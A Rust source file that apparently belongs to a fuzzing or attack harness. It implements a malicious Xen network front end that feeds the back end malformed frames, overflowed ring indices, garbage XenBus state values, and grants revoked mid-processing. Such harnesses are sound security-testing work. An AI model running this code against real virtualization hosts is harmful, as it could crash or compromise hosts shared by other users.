//! A front end of netif that breaks its own rings.

use pv_guest_lib::abi::evtchn::EvtchnOp;
use pv_guest_lib::abi::grant::GTF_PERMIT_ACCESS;
use pv_guest_lib::abi::netif::{RX_SLOT_SIZE, TX_SLOT_SIZE};
use pv_guest_lib::abi::ring;

use crate::Attacker;
use crate::events::operation;
use crate::grants::table;
use crate::rings::notify;
use crate::store::{Connection, number};
use crate::sys::Scratch;

/// References of the transmit ring, the receive ring and the data pages; their pages in the scratch memory.
pub const FIRST: u64 = 64;
const PAGES: u64 = 128;
pub const GRANTED: u64 = 16;
/// Offsets of the rings in the scratch memory; the control ring has the last page.
pub const TX: u64 = PAGES * 4096;
pub const RX: u64 = TX + 4096;
pub const CTRL: u64 = TX + (GRANTED - 1) * 4096;

/// A front end in the hands of the attack.
pub struct Front {
    store: Connection,
    port: u64,
    ctrl_port: u64,
    producer: u32,
}

/// Connects, sends frames of every wrong kind, breaks a ring, and does it all again.
pub fn run(attacker: &mut Attacker) -> u64 {
    let Some(store) = Connection::open() else { return u64::MAX };
    let Some(table) = table(attacker.scratch) else { return u64::MAX - 1 };
    let mut front = Front { store, port: 0, ctrl_port: 0, producer: 0 };
    let mut answers = 0;
    for round in 0..3u64 {
        if !front.connect(attacker, table, round) {
            return answers | 0xDEAD << 32 | round << 48;
        }
        answers += front.wrong_frames(attacker, table);
        let beyond = [257, 1000, 0x8000_0000, u32::MAX][attacker.random.index(4)];
        // One ring after the other goes beyond what it holds.
        let (at, producer) = if round == 1 { (RX, beyond) } else { (TX, front.producer.wrapping_add(beyond)) };
        attacker.scratch.set32(at + ring::REQ_PROD as u64, producer);
        notify(attacker, front.port);
        crate::wait(50);
        for (state, pause) in [(&b"5"[..], 100), (b"6", 100), (b"1", 0)] {
            front.write(attacker, b"state", state);
            crate::wait(pause);
        }
        for port in [front.port, front.ctrl_port] {
            operation(attacker.scratch, EvtchnOp::Close, 0, [port, 0, 0]);
        }
        crate::wait(200);
    }
    for state in [&b"0"[..], b"99", b"", b"\xFF", b"3", b"4"] {
        front.write(attacker, b"state", state);
    }
    answers
}

impl Front {
    /// A front end that is connected as it should be.
    pub fn open(attacker: &mut Attacker) -> Option<Self> {
        let (store, table) = (Connection::open()?, table(attacker.scratch)?);
        let mut front = Front { store, port: 0, ctrl_port: 0, producer: 0 };
        front.connect(attacker, table, 0).then_some(front)
    }

    /// Slots that were put on the transmit ring.
    pub fn producer(&self) -> u32 {
        self.producer
    }

    /// The number of the slot to fill next.
    pub fn next(&mut self) -> u32 {
        let next = self.producer;
        self.producer = next.wrapping_add(1);
        next
    }

    /// The port of the control ring.
    pub fn ctrl_port(&self) -> u64 {
        self.ctrl_port
    }

    /// Tells the back end of all slots.
    pub fn publish(&self, attacker: &Attacker) {
        attacker.scratch.set32(TX + ring::REQ_PROD as u64, self.producer);
        notify(attacker, self.port);
    }

    fn write(&self, attacker: &Attacker, key: &[u8], value: &[u8]) -> bool {
        self.store.write(attacker, b"device/vif/0/", key, value)
    }

    /// The handshake of XenBus, with garbage first when `round` is odd.
    fn connect(&mut self, attacker: &mut Attacker, table: Scratch, round: u64) -> bool {
        let scratch = attacker.scratch;
        for page in 0..GRANTED {
            let frame = (scratch.base() >> 12) + PAGES + page;
            table.set((FIRST + page) * 8, u64::from(GTF_PERMIT_ACCESS) | frame << 32);
            for offset in (0..4096).step_by(8) {
                scratch.set((PAGES + page) * 4096 + offset, 0);
            }
        }
        if round == 1 {
            let odd =
                [(&b"multi-queue-num-queues"[..], &b"4294967296"[..]), (b"event-channel", b"-1"), (b"state", b"4")];
            for (key, value) in odd {
                self.write(attacker, key, value);
            }
            crate::wait(200);
            self.write(attacker, b"multi-queue-num-queues", b"1");
            for state in [&b"5"[..], b"6", b"1"] {
                self.write(attacker, b"state", state);
                crate::wait(100);
            }
        }
        if operation(scratch, EvtchnOp::AllocUnbound, 0, [0x7FF0, 0, 0]) != 0 {
            return false;
        }
        self.port = scratch.get(0) >> 32;
        if operation(scratch, EvtchnOp::AllocUnbound, 0, [0x7FF0, 0, 0]) != 0 {
            return false;
        }
        self.ctrl_port = scratch.get(0) >> 32;
        self.producer = 0;
        for at in [TX, RX, CTRL] {
            scratch.set32(at + ring::REQ_EVENT as u64, 1);
            scratch.set32(at + ring::RSP_EVENT as u64, 1);
        }
        let ([mut port, mut tx, mut rx], [mut ctrl, mut ctrl_port]) = ([[0; 5]; 3], [[0; 5]; 2]);
        let written = self.write(attacker, b"tx-ring-ref", number(FIRST, &mut tx))
            && self.write(attacker, b"rx-ring-ref", number(FIRST + 1, &mut rx))
            && self.write(attacker, b"event-channel", number(self.port, &mut port))
            && self.write(attacker, b"ctrl-ring-ref", number(FIRST + GRANTED - 1, &mut ctrl))
            && self.write(attacker, b"event-channel-ctrl", number(self.ctrl_port, &mut ctrl_port))
            && self.write(attacker, b"request-rx-copy", b"1")
            && self.write(attacker, b"feature-sg", b"1")
            && self.write(attacker, b"feature-gso-tcpv4", b"1");
        self.write(attacker, b"state", b"4");
        crate::wait(300);
        written
    }

    /// Frames that are each wrong in some way, and pages to receive into that are no better; returns how many were
    /// answered.
    fn wrong_frames(&mut self, attacker: &mut Attacker, table: Scratch) -> u64 {
        let scratch = attacker.scratch;
        for round in 0..150u64 {
            for slot in 0..256 {
                let gref = FIRST + attacker.random.below(GRANTED + 2);
                scratch.set(RX + ring::slot_offset(slot, 256, RX_SLOT_SIZE) as u64, u64::from(slot) | gref << 32);
            }
            let posted = [0, 1, 256, 300][attacker.random.index(4)];
            scratch.set32(RX + ring::REQ_PROD as u64, scratch.get32(RX + ring::RSP_PROD as u64).wrapping_add(posted));
            for _ in 0..24 {
                let at = TX + ring::slot_offset(self.producer, 256, TX_SLOT_SIZE) as u64;
                let gref = attacker.random.pick(&[FIRST + 2, FIRST + 3, FIRST, FIRST + 1, 0, 500, 0xFFFF_FFFF]);
                let offset = attacker.random.pick(&[0, 1, 4000, 4095, 4096, 0xFFFF]);
                let (flags, id) = (attacker.random.below(32), attacker.random.below(1 << 16));
                let size = attacker.random.pick(&[0, 1, 13, 14, 60, 1514, 4096, 9000, 0xFFFF]);
                for (at, word) in [(at, gref), (at + 4, offset | flags << 16), (at + 8, id | size << 16)] {
                    scratch.set32(at, u32::try_from(word).unwrap_or(u32::MAX));
                }
                self.producer = self.producer.wrapping_add(1);
            }
            // What is sent: noise, at times with the head of a TCP frame for everybody.
            for offset in (0..256).step_by(8) {
                scratch.set(TX + 2 * 4096 + offset, attacker.random.next());
            }
            if round.is_multiple_of(2) {
                let head = [0xFF, 0xFF, 0xFF, 0xFF, 0xFF, 0xFF, 2, 0, 0, 0, 0, 9, 8, 0, 0x45, 0, 0xFF, 0xFF];
                scratch.fill(TX + 2 * 4096, &head);
            }
            scratch.set32(TX + ring::REQ_PROD as u64, self.producer);
            notify(attacker, self.port);
            // While they are looked at: the slots change, and a grant ends.
            for _ in 0..50 {
                scratch.set(TX + 64 + attacker.random.below(3072 / 8) * 8, attacker.random.next());
            }
            table.set((FIRST + 2 + round % 8) * 8, 0);
            if !self.settle(attacker) {
                break;
            }
            let frame = (scratch.base() >> 12) + PAGES + 2 + round % 8;
            table.set((FIRST + 2 + round % 8) * 8, u64::from(GTF_PERMIT_ACCESS) | frame << 32);
        }
        u64::from(scratch.get32(TX + ring::RSP_PROD as u64))
    }

    /// Waits until all slots are answered; false if that takes more than half a second.
    pub fn settle(&self, attacker: &Attacker) -> bool {
        for _ in 0..500 {
            if attacker.scratch.get32(TX + ring::RSP_PROD as u64) == self.producer {
                return true;
            }
            crate::wait(1);
        }
        false
    }
}
